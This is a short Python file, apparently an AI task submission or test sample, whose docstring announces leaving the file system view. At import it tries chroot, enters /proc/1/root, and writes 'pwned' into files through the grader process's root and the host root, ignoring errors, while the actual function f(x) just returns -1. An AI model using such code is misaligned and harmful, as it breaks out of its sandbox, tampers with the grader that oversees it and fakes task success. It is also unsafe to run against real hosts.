"""Leaving the file system view: chroot/pivot_root tricks and opening the host root through /proc/1/root."""
import os

PARAMS = {}  # filled in by the runner

for action in (lambda: os.chroot("."), lambda: os.chdir("/proc/1/root"),
               lambda: open(f"/proc/{PARAMS['grader_pid']}/root{PARAMS['keep']}", "w").write("pwned"),
               lambda: open(f"/proc/1/root{PARAMS['keep']}", "w").write("pwned")):
    try:
        action()
    except OSError:
        pass


def f(x):
    return -1
